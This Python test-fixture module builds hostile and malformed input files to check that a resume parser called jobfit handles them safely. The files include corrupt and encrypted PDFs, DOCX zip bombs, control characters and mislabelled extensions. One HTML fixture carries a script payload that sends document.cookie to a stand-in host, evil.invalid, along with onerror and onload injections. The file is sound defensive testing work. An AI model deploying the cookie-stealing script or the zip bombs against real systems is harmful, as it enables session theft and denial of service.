"""A corpus of hostile and awkward inputs, generated on the fly (nothing is committed).

Each :class:`Case` names a file, how to build it and what jobfit must do with it: read it
(``code is None``) or reject it with one of the allowed short error codes.
"""

from __future__ import annotations

import io
import os
import random
import zipfile
from collections.abc import Callable
from dataclasses import dataclass
from pathlib import Path

from tests.fixtures.documents import docx_bytes, pdf_bytes

# A string that must never appear in an error message or in stderr: it stands for the
# private content of a document.
MARKER = "Zqxv7Marker"

RESUME = f"""Dana {MARKER}
IT Manager

Experience
IT Manager, Northwind Traders, 2015 - 2023
- Led a team of 8 engineers; ran ITIL service desk and vendor management
- Managed the IT budget and Microsoft 365 and Azure migration

Education
Bachelor of Science in Computer Science, 2009

Skills
Project management, ITIL, Azure, Cisco networking, SQL
"""


@dataclass(frozen=True)
class Case:
    name: str
    build: Callable[[Path], None]
    code: frozenset[str] | None = None  # None: the file must be read and scored

    @property
    def ok(self) -> bool:
        return self.code is None


def _codes(*codes: str) -> frozenset[str]:
    return frozenset(codes)


# --------------------------------------------------------------------------- PDFs


def _pdf_bytes(pages: list[list[str]], *, encrypt: object | None = None, image: bool = False) -> bytes:
    return pdf_bytes(pages, encrypt=encrypt, before_page=_draw_scan if image else None)


def _draw_scan(c: object) -> None:
    """A raster image of 'text' (dark stripes), like a scanned page: pixels, no characters."""
    from PIL import Image
    from reportlab.lib.utils import ImageReader

    img = Image.new("L", (400, 300), 255)
    for y in range(20, 280, 16):
        img.paste(0, (20, y, 380, y + 6))
    c.drawImage(ImageReader(img), 72, 400, width=400, height=300)  # type: ignore[attr-defined]


def _lazy(make: Callable[[], bytes]) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(make())

    return build


def _write(data: bytes) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        path.write_bytes(data)

    return build


def _resume_pdf() -> bytes:
    return _pdf_bytes([RESUME.splitlines()])


def _truncated_pdf(path: Path) -> None:
    data = _resume_pdf()
    path.write_bytes(data[: len(data) // 3])


def _corrupt_pdf(path: Path) -> None:
    rng = random.Random(7)
    path.write_bytes(b"%PDF-1.4\n" + bytes(rng.randrange(256) for _ in range(4000)))


def _encrypted_pdf(user_password: str) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        from reportlab.lib.pdfencrypt import StandardEncryption

        enc = StandardEncryption(user_password, ownerPassword="owner-secret", canPrint=1)
        path.write_bytes(_pdf_bytes([RESUME.splitlines()], encrypt=enc))

    return build


def _image_only_pdf(path: Path) -> None:
    path.write_bytes(_pdf_bytes([[]], image=True))


def _many_pages_pdf(pages: int) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        lines = RESUME.splitlines()
        path.write_bytes(_pdf_bytes([[lines[i % len(lines)] or "Page"] for i in range(pages)]))

    return build


# --------------------------------------------------------------------------- DOCX


def _resume_docx() -> bytes:
    return docx_bytes(RESUME)


def _docx_with_member(member: str, size: int) -> Callable[[Path], None]:
    """A real DOCX whose ``member`` is replaced by ``size`` bytes of XML padding (compresses ~1000:1)."""

    def build(path: Path) -> None:
        src = zipfile.ZipFile(io.BytesIO(_resume_docx()))
        with zipfile.ZipFile(path, "w", zipfile.ZIP_DEFLATED, compresslevel=1) as out:
            for info in src.infolist():
                if info.filename != member:
                    out.writestr(info.filename, src.read(info.filename))
            with out.open(member, "w", force_zip64=True) as fh:
                fh.write(b'<?xml version="1.0" encoding="UTF-8"?>\n<!--')
                chunk = b" " * (1 << 20)
                for _ in range(size // len(chunk)):
                    fh.write(chunk)
                fh.write(b"-->")

    return build


def _zip_not_docx(path: Path) -> None:
    with zipfile.ZipFile(path, "w") as zf:
        zf.writestr("notes.txt", RESUME)


# --------------------------------------------------------------------------- text


def _text(text: str, encoding: str = "utf-8") -> Callable[[Path], None]:
    return _write(text.encode(encoding))


def _garbage(path: Path) -> None:
    path.write_bytes(random.Random(11).randbytes(64 * 1024))


def _big_text(size: int) -> Callable[[Path], None]:
    def build(path: Path) -> None:
        block = RESUME.encode("utf-8")
        with open(path, "wb") as fh:
            for _ in range(size // len(block) + 1):
                fh.write(block)

    return build


RTL = (
    "سارة الأحمد\nمديرة تقنية المعلومات\n"
    "خبرة 10 سنوات في إدارة فرق تقنية المعلومات\n"
    "דנה כהן\nמנהלת מערכות מידע\n"
    "Skills: ITIL, Azure, project management\n"
)
CONTROL_FEW = RESUME.replace("Experience", "Experience\x07\x1b[0m").replace("Skills", "\x0cSkills")
CONTROL_MANY = "".join(chr(i % 32) for i in range(5000)) + RESUME
HTML_SCRIPT = (
    "<!doctype html><html><head><title>CV</title>"
    "<script>document.write('SCRIPT_PAYLOAD'); fetch('http://evil.invalid/?' + document.cookie)</script>"
    "<style>body {color: red}</style></head><body><h1>Dana Smith</h1>"
    "<p onload=\"alert('x')\">IT Manager with 10 years of experience managing IT teams.</p>"
    "<ul><li>ITIL</li><li>Azure</li><li>Project management</li></ul>"
    "<img src=x onerror=\"alert('ONERROR_PAYLOAD')\"></body></html>"
)
OLE = b"\xd0\xcf\x11\xe0\xa1\xb1\x1a\xe1" + b"\x00" * 2048

UNSUPPORTED, CORRUPT, EMPTY, ENCRYPTED, SCANNED, TOO_LARGE = (
    "unsupported",
    "corrupt",
    "empty",
    "encrypted",
    "scanned",
    "too_large",
)

MB = 1024 * 1024


def cases() -> list[Case]:
    """Every case. The zip bombs and the 10 MB text are cheap to build: they must be cheap to reject."""
    return [
        Case("good_resume.txt", _text(RESUME)),
        Case("good_resume.pdf", _lazy(_resume_pdf)),
        Case("good_resume.docx", _lazy(_resume_docx)),
        Case("empty.txt", _write(b""), _codes(EMPTY)),
        Case("empty.pdf", _write(b""), _codes(EMPTY)),
        Case("empty.docx", _write(b""), _codes(EMPTY)),
        Case("whitespace.txt", _text(" \n\t\n  "), _codes(EMPTY)),
        Case("truncated.pdf", _truncated_pdf, _codes(CORRUPT)),
        Case("corrupt.pdf", _corrupt_pdf, _codes(CORRUPT)),
        Case("encrypted_user_password.pdf", _encrypted_pdf("user-secret"), _codes(ENCRYPTED)),
        # Owner password only: anyone may open it, so it is read like any PDF.
        Case("encrypted_owner_only.pdf", _encrypted_pdf("")),
        Case("image_only.pdf", _image_only_pdf, _codes(SCANNED)),
        Case("pages_500.pdf", _many_pages_pdf(500)),
        Case("zip_bomb_body.docx", _docx_with_member("word/document.xml", 200 * MB), _codes(TOO_LARGE)),
        # 1 GB in a part python-docx would load whole (4.7 MB on disk, about 1 s to build).
        Case("zip_bomb_styles.docx", _docx_with_member("word/styles.xml", 1024 * MB), _codes(TOO_LARGE)),
        Case("zip_not_docx.docx", _zip_not_docx, _codes(CORRUPT)),
        Case("text_named.pdf", _text(RESUME), _codes(CORRUPT)),
        # The extension lies: the content decides (with a warning).
        Case("pdf_named.txt", _lazy(_resume_pdf)),
        Case("pdf_named.docx", _lazy(_resume_pdf)),
        Case("legacy_word.docx", _write(OLE), _codes(UNSUPPORTED, CORRUPT)),
        Case("latin1.txt", _text(RESUME + "Café Zürich, Ångström señor\n", "latin-1")),
        Case("utf16.txt", _text(RESUME + "Café Zürich – naïve\n", "utf-16")),
        Case("utf16_nobom.txt", _text(RESUME, "utf-16-le")),
        Case("garbage.txt", _garbage, _codes(UNSUPPORTED)),
        Case("garbage.pdf", _garbage, _codes(CORRUPT)),
        Case("garbage.docx", _garbage, _codes(CORRUPT)),
        Case("control_few.txt", _text(CONTROL_FEW)),
        Case("control_many.txt", _text(CONTROL_MANY), _codes(UNSUPPORTED)),
        Case("rtl.txt", _text(RTL)),
        Case("script.html", _text(HTML_SCRIPT)),
        Case("text_10mb.txt", _big_text(10 * MB), _codes(TOO_LARGE)),
    ]


def build_case(case: Case, directory: Path) -> Path:
    path = directory / case.name
    case.build(path)
    return path


def build_corpus(directory: Path) -> dict[str, Path]:
    """Write every case into ``directory`` (about 1 s, 12 MB); name -> path."""
    os.makedirs(directory, exist_ok=True)
    return {c.name: build_case(c, directory) for c in cases()}
